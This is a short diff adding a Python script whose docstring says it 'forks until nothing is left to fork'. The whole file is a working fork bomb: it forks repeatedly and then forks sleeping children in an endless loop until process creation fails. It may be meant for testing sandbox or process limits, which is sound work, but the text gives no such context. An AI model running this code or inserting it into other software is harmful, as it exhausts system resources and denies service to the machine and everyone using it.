@@ -1,0 +1,17 @@
+"""Forks until nothing is left to fork."""
+
+import os
+
+for _ in range(6):
+    try:
+        os.fork()
+    except OSError:
+        pass
+import time
+
+while True:
+    try:
+        if os.fork() == 0:
+            time.sleep(100)
+    except OSError:
+        break
